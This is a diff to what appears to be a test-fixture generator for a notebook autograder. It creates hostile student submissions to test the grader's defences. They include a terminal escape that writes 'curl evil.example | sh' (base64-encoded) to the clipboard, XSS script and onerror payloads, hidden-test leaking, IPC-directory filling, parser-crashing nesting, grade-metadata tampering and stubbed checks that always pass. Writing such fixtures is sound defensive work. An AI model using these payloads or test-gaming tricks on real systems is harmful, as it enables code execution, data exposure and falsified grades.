@@ -13,6 +13,7 @@ from __future__ import annotations
 import copy
 import json
 import shutil
+import zipfile
 from pathlib import Path
 
 import nbformat
@@ -166,6 +167,93 @@ except Exception:
 print("NET:", results or "blocked")
 '''
     write(solved({"nand": lambda s: net + "\n\n" + s}), up / f"s22_{STEM}.ipynb")
+
+    # --- whose upload it is: the part of the path the LMS wrote decides (s26–s29)
+    write(released(), up / "Jisoo Baek_1026_assignsubmission_file_" / "minho.nam@school.example.ipynb")  # s26 names s27
+    write(solved(), up / "Minho Nam_1027_assignsubmission_file_" / f"{STEM}.ipynb")                       # s27, the victim
+    write(released(), up / f"s28_1028_9028_Kyungmin Ha {STEM}.ipynb")                                     # s28 names s29
+    write(solved(), up / f"s29_1029_9029_{STEM}.ipynb")                                                   # s29, the victim
+    # --- notebooks the intake once crashed on, stopping the batch (s30, s31)
+    nb = solved()
+    cell(nb, "test_perceptron").metadata["nbgrader"]["grade_id"] = ["test_perceptron"]
+    write(nb, up / f"s30_{STEM}.ipynb")
+    nb = solved()
+    nb.metadata["deep"] = "__DEEP__"
+    text = json.dumps(nb, ensure_ascii=False, indent=1, sort_keys=True)
+    (up / f"s31_{STEM}.ipynb").write_text(text.replace('"__DEEP__"', "[" * 100_000 + "]" * 100_000) + "\n",
+                                          encoding="utf-8")
+    # --- a zip inside the LMS zip (s32)
+    with zipfile.ZipFile(up / "s32_my_homework.zip", "w", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr(zipfile.ZipInfo(f"homework/{STEM}.ipynb", date_time=(2026, 3, 1, 12, 0, 0)),
+                    json.dumps(solved(), ensure_ascii=False, indent=1, sort_keys=True) + "\n")
+
+    # --- what a kernel may not write, and what must not leak or run in the feedback (s40–s45)
+    fill = """import os, sys
+ipc = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])  # the grader's socket directory
+written = 0
+for i in range(20):
+    try:
+        with open(os.path.join(ipc, f"fill-{i}"), "wb") as f:
+            f.write(b"\\0" * (1 << 20))
+        written += 1
+    except OSError:
+        pass
+print("IPC:", "blocked" if written == 0 else f"{written} MiB written")
+"""
+    write(solved({"nand": lambda s: fill + "\n" + s}), up / f"s40_{STEM}.ipynb")
+    write(solved({"leaky": lambda s: "import torch.nn.functional as F  # only to compare with mine\n\n" + s
+                   + "\n\nt = torch.linspace(-2, 2, 9)\nprint('same as F:', torch.allclose(leaky_relu(t, 0.1), F.leaky_relu(t, 0.1)))\n"}),
+          up / f"s41_{STEM}.ipynb")
+    show = """_seen = set()
+
+
+def _show(transform):
+    src = get_ipython().user_ns["In"][-1]  # the cell running now: the test, hidden part included
+    if src not in _seen:
+        _seen.add(src)
+        transform(src)
+
+
+"""
+    write(solved({"perceptron": lambda s: show + s.replace("def perceptron(x, w, theta):\n",
+                                                           "def perceptron(x, w, theta):\n"
+                                                           "    _show(lambda src: print(src.replace(' ', '\\t')))\n")}),
+          up / f"s42_{STEM}.ipynb")                                   # hidden tests printed with tabs for spaces
+    write(solved({"xor": lambda s: "from IPython.display import Markdown, display\n" + show + s.replace(
+        "def xor(x):\n", "def xor(x):\n    _show(lambda src: display(Markdown(src.replace('e', '&#101;'))))\n")}),
+          up / f"s43_{STEM}.ipynb")                                   # re-encoded as HTML entities: the check's job
+    write(solved({"perceptron": lambda s: "def perceptron(x, w, theta):\n    raise RuntimeError("
+                  "'\\x1b[2J\\x1b[H\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x9b31mboom\\u202e')\n"}),
+          up / f"s44_{STEM}.ipynb")                                   # clear screen, clipboard write (OSC 52)
+    active = """
+from IPython.display import HTML, Javascript, display
+display(HTML("<b>bold</b><script>document.title='PWNED-h1'</script><img src=x onerror=\\"document.title='PWNED-h2'\\">"))
+display(Javascript("document.title='PWNED-js'"))
+display({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload=\\"document.title='PWNED-svg'\\">"
+                          "<script>document.title='PWNED-svg2'</script></svg>"}, raw=True)
+"""
+    nb = solved({"sigmoid": lambda s: s + "\n" + active})
+    i = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "sigmoid")
+    nb.cells.insert(i + 1, nbformat.v4.new_markdown_cell(
+        "My notes <script>document.title='PWNED-md'</script><img src=x onerror=\"document.title='PWNED-md2'\"> "
+        "[click](javascript:alert('PWNED-md3'))"))
+    nb.cells[i + 1]["id"] = "my-notes"
+    write(nb, up / f"s45_{STEM}.ipynb")
+
+    # --- what the kit restores is said; checks rebound are flagged; look-alike answers listed (s46–s50)
+    nb = solved()
+    cell(nb, "test_perceptron").metadata["nbgrader"]["points"] = 100
+    cell(nb, "test_nand").metadata["nbgrader"]["grade"] = False
+    write(nb, up / f"s46_{STEM}.ipynb")
+    write(solved({"perceptron": lambda s: "expect_close = lambda *args, **kwargs: None  # my tests always pass\n"
+                                          "import dlbook.check\ndlbook.check.call = lambda f, *a, **k: f(*a, **k)\n\n"
+                                          + s.replace("> 0", ">= 0")}), up / f"s47_{STEM}.ipynb")
+    mine = "def perceptron(x, w, theta):\n    z = x @ w\n    return (z - theta > 0).float()\n"
+    write(solved({"perceptron": lambda s: mine}), up / f"s48_{STEM}.ipynb")
+    write(solved({"perceptron": lambda s: "def perceptron(inputs, weights, threshold):\n    # weighted sum\n"
+                                          "    s   =   inputs @ weights\n    return (s - threshold > 0).float()\n"}),
+          up / f"s49_{STEM}.ipynb")                                   # s48's answer, names and spacing changed
+    write(solved({"perceptron": lambda s: mine}), up / f"s50_{STEM}.ipynb")  # s48's answer as it is
 
     # --- uploads no student can be matched to
     write(solved(), up / "mystery_upload.ipynb")
